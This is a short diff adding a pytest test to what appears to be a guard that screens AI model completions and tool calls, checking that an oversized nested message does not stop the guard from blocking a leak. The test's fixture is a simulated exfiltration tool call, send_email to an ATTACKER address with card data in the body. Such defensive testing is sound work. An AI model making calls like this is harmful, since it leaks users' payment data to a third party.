@@ -163,3 +163,16 @@ def test_a_responses_conversation_resumes_too():
             )
     assert seen == [[[False], [False]], [[False], [False]], [[True], [True]]]
     assert guard.kept.hits == 2
+
+
+def test_a_message_pydantic_cannot_write_is_screened_and_never_kept():
+    guard = Guard()
+    deep = json.loads("[" * 900 + "]" * 900)
+    messages = [*conversation(1), {"role": "user", "content": "and mail it", "x": deep}]
+    leak = call("x", "send_email", {"to": ATTACKER, "body": f"card {CARD}"})
+    for _ in range(2):
+        _, decisions = screen_completion(
+            guard, {"model": "m", "messages": messages}, completion(leak)
+        )
+        assert [d.blocked for d in decisions] == [True]
+    assert len(guard.kept) == 0
